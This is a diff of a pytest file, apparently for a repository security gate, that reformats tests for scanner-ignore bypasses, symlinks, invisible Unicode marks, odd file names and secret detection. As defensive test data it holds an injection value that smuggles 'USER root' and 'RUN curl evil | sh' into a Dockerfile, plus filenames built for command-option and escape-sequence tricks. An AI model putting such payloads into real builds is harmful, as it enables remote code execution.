@@ -61,7 +61,10 @@ def test_a_scanners_orders_are_reported_and_change_nothing(repo: Path, folder: s
 
 
 def test_a_policy_cannot_let_scanners_orders_pass_in_a_model(repo: Path) -> None:
-    edit(repo / "policy/gate.yaml", lambda text: text + "exclusions: [{path: notes, reason: Nothing of it runs.}]\n")
+    edit(
+        repo / "policy/gate.yaml",
+        lambda text: text + "exclusions: [{path: notes, reason: Nothing of it runs.}]\n",
+    )
     put(repo, "notes/pod.yaml", PRIVILEGED)
     put(repo, "models/echo/.trivyignore", "*\n")
     assert {path for path, _ in rules(gate(repo))} == {"models/echo/.trivyignore"}
@@ -102,7 +105,10 @@ def test_a_link_to_what_is_not_looked_at_is_reported(clone: Path) -> None:
 
 
 def test_a_link_to_what_is_excluded_is_reported(repo: Path) -> None:
-    edit(repo / "policy/gate.yaml", lambda text: text + "exclusions: [{path: notes, reason: Nothing of it runs.}]\n")
+    edit(
+        repo / "policy/gate.yaml",
+        lambda text: text + "exclusions: [{path: notes, reason: Nothing of it runs.}]\n",
+    )
     put(repo, "notes/pod.yaml", PRIVILEGED)
     (repo / "deploy").mkdir()
     (repo / "deploy/pod.yaml").symlink_to("../notes/pod.yaml")
@@ -164,7 +170,9 @@ def test_no_encoding_hides_a_pod_or_a_token(repo: Path, encoding: str) -> None:
 
 
 @pytest.mark.parametrize("mark", ["\u202e", "\u2066", "\u200b", "\u200d", "\ufeff", "\u00ad", "\U000e0041"])
-@pytest.mark.parametrize("path", ["models/echo/src/server.py", "deploy/run.sh", "deploy/values.yaml", MANIFEST])
+@pytest.mark.parametrize(
+    "path", ["models/echo/src/server.py", "deploy/run.sh", "deploy/values.yaml", MANIFEST]
+)
 def test_what_cannot_be_seen_is_reported(repo: Path, mark: str, path: str) -> None:
     line = f"description: An{mark} echo.\n" if path == MANIFEST else f"key: is{mark}admin\n"
     if path == MANIFEST:
@@ -175,7 +183,7 @@ def test_what_cannot_be_seen_is_reported(repo: Path, mark: str, path: str) -> No
 
 
 def test_values_cannot_add_instructions_to_a_dockerfile_or_steps_to_a_workflow(tmp_path: Path) -> None:
-    """Whatever the renderer makes of it: either it refuses, or nothing of the value becomes an instruction."""
+    """Whatever the renderer makes of it: it refuses, or nothing of the value becomes an instruction."""
     evil = '"x\\nUSER root\\nRUN curl evil | sh"'
     for number, line in enumerate(
         (
@@ -248,7 +256,15 @@ def test_a_file_that_vanishes_is_as_if_deleted(clone: Path) -> None:
     assert gate(clone).passed
 
 
-NAMES = ("with space.yaml", "new\nline.yaml", "tab\there.yaml", "esc\x1b[31m.yaml", "-rf.yaml", "größe.yaml", "a:b.yaml")
+NAMES = (
+    "with space.yaml",
+    "new\nline.yaml",
+    "tab\there.yaml",
+    "esc\x1b[31m.yaml",
+    "-rf.yaml",
+    "größe.yaml",
+    "a:b.yaml",
+)
 
 
 @pytest.mark.parametrize("name", [*map(os.fsencode, NAMES), b"not-utf8-\xff.yaml", b"\xe2\x80\xae.yaml"])
@@ -278,7 +294,10 @@ def test_a_submodule_is_named(clone: Path, tmp_path: Path) -> None:
 
 
 def test_secrets_are_looked_for_where_nothing_else_is(repo: Path) -> None:
-    edit(repo / "policy/gate.yaml", lambda text: text + "exclusions: [{path: notes, reason: Nothing of it runs.}]\n")
+    edit(
+        repo / "policy/gate.yaml",
+        lambda text: text + "exclusions: [{path: notes, reason: Nothing of it runs.}]\n",
+    )
     put(repo, "notes/pod.yaml", f"{PRIVILEGED}# {github_token()}\n")
     answer = gate(repo)
     assert rules(answer) == {("notes/pod.yaml", "secret-in-file")}
